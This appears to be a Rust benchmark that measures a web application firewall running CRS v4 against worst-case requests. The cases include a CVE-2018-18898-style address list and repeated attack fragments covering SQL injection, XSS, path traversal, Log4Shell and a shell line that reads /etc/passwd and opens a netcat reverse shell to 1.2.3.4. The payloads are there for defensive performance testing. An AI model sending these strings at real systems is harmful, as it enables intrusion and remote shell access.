@@ -1,0 +1,432 @@
+//! Adversarial engine benchmark: inputs built to be worst cases for CRS v4's
+//! patterns, at several sizes, to show that engine time grows linearly with input
+//! size and to report it in milliseconds per MiB.
+//!
+//! Cases:
+//! - a CVE-2018-18898-style address list (quoted display names and addresses, cut off
+//!   mid-quote) in a `From` header, in the `Referer` header and as a form argument;
+//! - 1 MiB-class urlencoded bodies whose one argument repeats a fragment that keeps
+//!   CRS's SQLi, XSS, RCE, LFI, Log4Shell and decoding rules busy;
+//! - the same fragments as a JSON string;
+//! - many arguments (up to 10,000) in the query string and in the body.
+//!
+//! The rule set is CRS v4 at PL1 with body limits raised and no argument limit, so
+//! the engine does all of the work (with the stock limits, 200007 or the body limit
+//! would refuse most of these early).
+//!
+//! Run: `cargo bench -p engine --bench adversarial [-- FILTER] [--quick]`; `--quick`
+//! stops at 256 KiB. The target is at most 20 ms of engine time per MiB.
+
+mod common;
+
+use common::RawRequest;
+use engine::Ruleset;
+use std::sync::Arc;
+use std::time::Duration;
+
+/// Engine settings: blocking, bodies inspected up to 64 MiB, no argument limit.
+const SETTINGS: &str = r#"
+SecRuleEngine On
+SecRequestBodyAccess On
+SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
+SecRequestBodyLimit 67108864
+SecRequestBodyNoFilesLimit 67108864
+SecRequestBodyLimitAction Reject
+SecArgumentsLimit 1000000
+SecAuditEngine Off
+"#;
+
+/// The target: engine milliseconds per MiB of input.
+const TARGET_MS_PER_MIB: f64 = 20.0;
+
+fn base_headers() -> Vec<(Vec<u8>, Vec<u8>)> {
+    [
+        ("Host", "localhost"),
+        (
+            "User-Agent",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+        ),
+        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
+        ("Accept-Language", "en-GB,en;q=0.5"),
+        (
+            "Cookie",
+            "session=6f1c2a9b4e7d0a13; theme=dark; consent=yes",
+        ),
+    ]
+    .iter()
+    .map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec()))
+    .collect()
+}
+
+fn request(
+    method: &str,
+    target: Vec<u8>,
+    extra: Vec<(&str, Vec<u8>)>,
+    body: Vec<u8>,
+) -> RawRequest {
+    let mut headers = base_headers();
+    for (k, v) in extra {
+        headers.push((k.as_bytes().to_vec(), v));
+    }
+    if method == "POST" {
+        headers.push((
+            b"Content-Length".to_vec(),
+            body.len().to_string().into_bytes(),
+        ));
+    }
+    RawRequest {
+        name: String::new(),
+        method: method.as_bytes().to_vec(),
+        target,
+        protocol: b"HTTP/1.1".to_vec(),
+        headers,
+        body,
+    }
+}
+
+/// A list of quoted display names and addresses, `size` bytes long, that ends inside
+/// an unterminated quoted name (the CVE-2018-18898 shape).
+fn address_list(size: usize) -> Vec<u8> {
+    let names = [
+        "Alice \\\"Al\\\" Example",
+        "Bob O'Brien",
+        "Carol, Finance",
+        "Dave (IT) Support",
+        "Eve <no-reply>",
+    ];
+    let mut out = Vec::with_capacity(size + 64);
+    let mut i = 0;
+    while out.len() < size {
+        let n = names[i % names.len()];
+        out.extend_from_slice(
+            format!("\"{n} {i}\" <user{i}@mail{}.example.com>, ", i % 97).as_bytes(),
+        );
+        i += 1;
+    }
+    out.truncate(size.saturating_sub(12));
+    out.extend_from_slice(b", \"Unfinishe");
+    out.truncate(size);
+    out
+}
+
+/// Fragments that keep CRS patterns working; each is repeated to the input size.
+const FRAGMENTS: &[(&str, &[u8])] = &[
+    (
+        "sqli-tokens",
+        b"' or 1=1 union select /*x*/ char(0x41),@@version from dual where '1' like '",
+    ),
+    (
+        "xss-tags",
+        b"<a href=javascript:x onmouseover=alert(1) style=x:expression(1)><svg/onload=1 ",
+    ),
+    (
+        "rce-shell",
+        b";cat /etc/passwd|nc -e /bin/sh 1.2.3.4 $(id)`uname -a`&&wget http://x/ ",
+    ),
+    ("lfi-dots", b"../..%2f..%252f..\\..%c0%af"),
+    ("log4j-open", b"${${lower:j}${::-n}di:${env:x:-l}dap://"),
+    (
+        "entities",
+        b"&#x3c;&#60;&lt;&#0000060;&#x00003C;&quot;&amp;&#",
+    ),
+    ("percent", b"%25%32%35%u0027%uff1c%c0%bc%00%"),
+    ("backslash", b"\\x3c\\u003c\\074\\\\\\'\\\"\\"),
+    ("open-quote", b"\"'`(((([[[{{{"),
+    ("spaces", b" \t \r\n \x0b "),
+    ("high-bytes", b"\x80\xff\xc3\x28\xe2\x82\xfe\xc0\xaf"),
+    ("plain", b"a"),
+];
+
+/// Percent-encodes every byte that is not unreserved, for a urlencoded body.
+fn urlencode(v: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(v.len() * 3);
+    for &b in v {
+        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+            out.push(b);
+        } else {
+            out.extend_from_slice(format!("%{b:02X}").as_bytes());
+        }
+    }
+    out
+}
+
+/// Escapes bytes for a JSON string (high bytes and controls as `\u00XX`).
+fn json_escape(v: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(v.len() * 2);
+    for &b in v {
+        match b {
+            b'"' => out.extend_from_slice(b"\\\""),
+            b'\\' => out.extend_from_slice(b"\\\\"),
+            0..=0x1f | 0x80..=0xff => out.extend_from_slice(format!("\\u{b:04x}").as_bytes()),
+            _ => out.push(b),
+        }
+    }
+    out
+}
+
+/// `{"comment":"<frag repeated>"}` padded with trailing whitespace to exactly `size`
+/// bytes; only whole escaped fragments go in, so the document is always valid.
+fn json_body(frag: &[u8], size: usize) -> Vec<u8> {
+    let unit = json_escape(frag);
+    let mut out = b"{\"comment\":\"".to_vec();
+    while out.len() + unit.len() + 2 <= size {
+        out.extend_from_slice(&unit);
+    }
+    out.extend_from_slice(b"\"}");
+    out.resize(size.max(out.len()), b' ');
+    out
+}
+
+/// `comment=<frag percent-encoded, repeated>` padded with `a` to exactly `size` bytes;
+/// only whole encoded fragments go in.
+fn form_body(frag: &[u8], size: usize) -> Vec<u8> {
+    let unit = urlencode(frag);
+    let mut out = b"comment=".to_vec();
+    while out.len() + unit.len() <= size {
+        out.extend_from_slice(&unit);
+    }
+    out.resize(size.max(out.len()), b'a');
+    out
+}
+
+/// One adversarial case at one size: the request and the bytes it carries.
+struct Case {
+    name: String,
+    size: usize,
+    req: RawRequest,
+}
+
+fn cases(sizes: &[usize]) -> Vec<Case> {
+    let mut out = Vec::new();
+    for &size in sizes {
+        let list = address_list(size);
+        out.push(Case {
+            name: "cve-2018-18898 From header".into(),
+            size,
+            req: request(
+                "GET",
+                b"/inbox".to_vec(),
+                vec![("From", list.clone())],
+                Vec::new(),
+            ),
+        });
+        out.push(Case {
+            name: "cve-2018-18898 Referer header".into(),
+            size,
+            req: request(
+                "GET",
+                b"/inbox".to_vec(),
+                vec![("Referer", list.clone())],
+                Vec::new(),
+            ),
+        });
+        let mut body = b"to=".to_vec();
+        body.extend_from_slice(&urlencode(&list));
+        body.truncate(size);
+        out.push(Case {
+            name: "cve-2018-18898 form arg".into(),
+            size,
+            req: request(
+                "POST",
+                b"/send".to_vec(),
+                vec![(
+                    "Content-Type",
+                    b"application/x-www-form-urlencoded".to_vec(),
+                )],
+                body,
+            ),
+        });
+        for (frag_name, frag) in FRAGMENTS {
+            out.push(Case {
+                name: format!("form {frag_name}"),
+                size,
+                req: request(
+                    "POST",
+                    b"/comment".to_vec(),
+                    vec![(
+                        "Content-Type",
+                        b"application/x-www-form-urlencoded".to_vec(),
+                    )],
+                    form_body(frag, size),
+                ),
+            });
+            out.push(Case {
+                name: format!("json {frag_name}"),
+                size,
+                req: request(
+                    "POST",
+                    b"/api/comment".to_vec(),
+                    vec![("Content-Type", b"application/json".to_vec())],
+                    json_body(frag, size),
+                ),
+            });
+        }
+    }
+    out
+}
+
+/// Requests with `n` arguments, in the query string and in a form body.
+fn many_args(counts: &[usize]) -> Vec<Case> {
+    let mut out = Vec::new();
+    for &n in counts {
+        let mut q = b"/list?".to_vec();
+        let mut body = Vec::new();
+        for i in 0..n {
+            if i > 0 {
+                q.push(b'&');
+                body.push(b'&');
+            }
+            q.extend_from_slice(format!("f{i}=v{i}").as_bytes());
+            body.extend_from_slice(format!("f{i}=v{i}").as_bytes());
+        }
+        let qlen = q.len();
+        out.push(Case {
+            name: format!("{n} query args"),
+            size: qlen,
+            req: request("GET", q, vec![], Vec::new()),
+        });
+        let blen = body.len();
+        out.push(Case {
+            name: format!("{n} body args"),
+            size: blen,
+            req: request(
+                "POST",
+                b"/form".to_vec(),
+                vec![(
+                    "Content-Type",
+                    b"application/x-www-form-urlencoded".to_vec(),
+                )],
+                body,
+            ),
+        });
+    }
+    out
+}
+
+/// One measurement: input size in bytes, median engine milliseconds, and the status of
+/// the intervention (None when the request passed).
+type Timing = (usize, f64, Option<u16>);
+
+/// Engine CPU time of one run of `case`: the thread's CPU time over a loop of runs
+/// lasting at least `budget` (and at least 3 runs), divided by the runs. (The kernel
+/// updates the thread's CPU clock at scheduler ticks, so single runs are not timed on
+/// their own.) Also returns the status of the intervention, if any.
+fn time_case(rs: &Arc<Ruleset>, case: &Case, budget: Duration) -> (Duration, Option<u16>) {
+    let status = common::run(rs, &case.req, None).map(|i| i.status);
+    let (cpu_us, _, _) = common::cpu_per_call(
+        || {
+            std::hint::black_box(common::run(rs, &case.req, None));
+        },
+        budget,
+        3,
+    );
+    (Duration::from_secs_f64(cpu_us / 1e6), status)
+}
+
+fn main() {
+    let args: Vec<String> = std::env::args()
+        .skip(1)
+        .filter(|a| a != "--bench")
+        .collect();
+    let quick = args.iter().any(|a| a == "--quick");
+    let filter: Option<&String> = args.iter().find(|a| !a.starts_with("--"));
+    let (rs, secs) = common::crs_v4_with(SETTINGS).unwrap_or_else(|e| panic!("CRS v4: {e}"));
+    eprintln!("CRS v4 loaded in {:.0} ms", secs * 1e3);
+
+    let sizes: &[usize] = if quick {
+        &[64 << 10, 256 << 10]
+    } else {
+        &[64 << 10, 256 << 10, 1 << 20]
+    };
+    let counts: &[usize] = if quick {
+        &[1000, 2500]
+    } else {
+        &[1000, 2500, 10_000]
+    };
+    let mut all = cases(sizes);
+    all.extend(many_args(counts));
+    let all: Vec<Case> = all
+        .into_iter()
+        .filter(|c| filter.is_none_or(|f| c.name.contains(f.as_str())))
+        .collect();
+    for c in &all {
+        if c.name.starts_with("json ") {
+            assert!(
+                serde_json::from_slice::<serde_json::Value>(&c.req.body).is_ok(),
+                "{} at {} bytes is not valid JSON",
+                c.name,
+                c.size
+            );
+        }
+    }
+
+    let mut rows: Vec<(String, Vec<Timing>)> = Vec::new();
+    for c in &all {
+        let (t, status) = time_case(&rs, c, Duration::from_millis(400));
+        let ms = t.as_secs_f64() * 1e3;
+        match rows.iter_mut().find(|(n, _)| *n == c.name) {
+            Some((_, v)) => v.push((c.size, ms, status)),
+            None => rows.push((c.name.clone(), vec![(c.size, ms, status)])),
+        }
+        eprintln!(
+            "{:<34} {:>8} B  {:>9.2} ms  {:>8.2} ms/MiB  {}",
+            c.name,
+            c.size,
+            ms,
+            ms / (c.size as f64 / 1048576.0),
+            status
+                .map(|s| s.to_string())
+                .unwrap_or_else(|| "pass".into())
+        );
+    }
+
+    // Summary: ms/MiB per size, and the growth factor between the smallest and the
+    // largest size (1.0 = linear; the fixed per-transaction cost makes small inputs
+    // look dearer per MiB, so a factor below 1 is expected).
+    println!();
+    println!("| case | size | engine ms | ms per MiB | marginal ms per MiB | verdict |");
+    println!("|---|---:|---:|---:|---:|---|");
+    let mut worst: f64 = 0.0;
+    let mut worst_name = String::new();
+    let mut over = 0;
+    for (name, v) in &rows {
+        for (k, (size, ms, status)) in v.iter().enumerate() {
+            let per = ms / (*size as f64 / 1048576.0);
+            let marginal = if k > 0 {
+                let (s0, m0, _) = v[k - 1];
+                format!("{:.2}", (ms - m0) / ((size - s0) as f64 / 1048576.0))
+            } else {
+                "".into()
+            };
+            let is_args = name.contains("args");
+            if !is_args && *size >= (256 << 10) && per > worst {
+                worst = per;
+                worst_name = format!("{name} at {size} B");
+            }
+            if !is_args && *size >= (256 << 10) && per > TARGET_MS_PER_MIB {
+                over += 1;
+            }
+            println!(
+                "| {name} | {} | {ms:.2} | {per:.2} | {marginal} | {} |",
+                human(*size),
+                status
+                    .map(|s| s.to_string())
+                    .unwrap_or_else(|| "pass".into())
+            );
+        }
+    }
+    println!();
+    println!(
+        "adversarial: worst {worst:.1} ms/MiB ({worst_name}); {over} case(s) at >= 256 KiB over the {TARGET_MS_PER_MIB} ms/MiB target"
+    );
+}
+
+fn human(n: usize) -> String {
+    if n >= 1 << 20 && n % (1 << 20) == 0 {
+        format!("{} MiB", n >> 20)
+    } else if n >= 1 << 10 && n % (1 << 10) == 0 {
+        format!("{} KiB", n >> 10)
+    } else {
+        format!("{n} B")
+    }
+}
